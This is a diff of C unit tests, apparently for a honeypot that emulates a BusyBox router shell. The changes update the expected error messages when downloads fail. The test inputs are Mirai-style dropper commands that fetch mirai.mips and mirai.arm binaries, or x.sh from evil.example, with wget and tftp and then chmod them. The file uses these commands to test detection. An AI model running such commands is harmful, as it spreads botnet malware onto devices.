@@ -469,7 +469,11 @@ static void t_exec_elf(void **state)
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0); /* our own image */
 	RUN_EQ(fx, "./b; echo $?", "0\n[root@router /var]# ");
 	RUN_EQ(fx, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x28' > a; chmod +x a; ./a",
-	       "Illegal instruction\n[root@router /var]# ");
+	       /* another CPU: ENOEXEC, and ash reads the file as a script
+		* (NULs deleted). Real ash 1.35 (build/oracle) says "./a: line 1:
+		* syntax error: unexpected end of file (expecting ")")"; the
+		* message is the parser's (sh/exec.c, parse.c) */
+	       "-sh: syntax error: unexpected \"(\"\n[root@router /var]# ");
 	RUN_EQ(fx, "echo 'echo from script $1' > s.sh; chmod +x s.sh; ./s.sh arg; sh s.sh two",
 	       "from script arg\nfrom script two\n[root@router /var]# ");
 }
@@ -667,7 +671,7 @@ static void t_fetch(void **state)
 	host_clear(&fx->h);
 	RUN_EQ(fx, "/bin/busybox wget http://1.2.3.4:8080/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
 	       "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
-	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n"
+	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
 	       "[root@router /var]# ");
 	e = find_ev(&fx->h, SH_EV_FETCH);
 	assert_non_null(e);
@@ -679,8 +683,9 @@ static void t_fetch(void **state)
 	RUN_EQ(fx, "wget http://evil.example/x.sh", "wget: bad address 'evil.example'\n[root@router /var]# ");
 	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->outfile, "/var/x.sh");
 	host_clear(&fx->h);
+	/* no fetcher: a device with no route (xsendto's perror) */
 	RUN_EQ(fx, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm 10.0.0.9 6969",
-	       "tftp: timeout\n[root@router /var]# ");
+	       "tftp: sendto: Network is unreachable\n[root@router /var]# ");
 	e = find_ev(&fx->h, SH_EV_FETCH);
 	assert_string_equal(e->url, "tftp://10.0.0.9:6969/mirai.arm");
 	assert_string_equal(e->outfile, "/var/dvrHelper");
@@ -861,14 +866,14 @@ static void t_fetch_wait_more(void **state)
 	RUN_EQ(fx, "echo 'echo hi' > s; sh s; ./s", "hi\n-sh: ./s: Permission denied\n" P);
 	RUN_EQ(fx, "for i in 1; do wget http://1.2.3.4/x; done",
 	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
-	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n" P);
+	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
 	assert_int_equal(fx->h.nfetch, 0);
 	assert_non_null(find_ev(&fx->h, SH_EV_FETCH));
 	/* refused by the host: the failure at once, the line goes on */
 	fx->h.fetch_rc = 0;
 	RUN_EQ(fx, "wget http://1.2.3.4/x; echo next",
 	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
-	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n"
+	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
 	       "next\n" P);
 	assert_int_equal(fx->h.nfetch, 1);
 	fx->h.fetch_rc = 1;
